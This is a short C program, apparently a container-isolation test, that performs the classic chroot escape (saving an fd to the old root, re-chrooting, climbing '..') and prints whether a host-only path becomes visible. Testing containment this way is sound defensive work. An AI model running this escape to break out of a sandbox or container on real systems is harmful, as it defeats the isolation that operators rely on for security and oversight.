/* Seed 004's chroot escape, run as root inside a container: chroot into a subdirectory
 * while keeping a directory fd of the old root, fchdir back to it, climb ".." far above
 * it and chroot there. Under a plain chroot that lands in the host's root; a container
 * that pivot_root'ed (and dropped the old root) stays in its own root.
 * Prints "escaped" when the host-only path argv[1] is visible afterwards, else "contained". */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char** argv) {
    struct stat st;
    if (argc != 2) {
        fprintf(stderr, "usage: %s HOST-ONLY-PATH\n", argv[0]);
        return 2;
    }
    mkdir("/escape-jail", 0700);
    int old_root = open("/", O_RDONLY | O_DIRECTORY);
    if (old_root < 0 || chroot("/escape-jail") < 0 || fchdir(old_root) < 0) {
        perror("setting up the jail");
        return 2;
    }
    for (int i = 0; i < 256; i++)
        if (chdir("..") < 0)
            break;
    if (chroot(".") < 0) {
        perror("chroot .");
        return 2;
    }
    puts(stat(argv[1], &st) == 0 ? "escaped" : "contained");
    return 0;
}
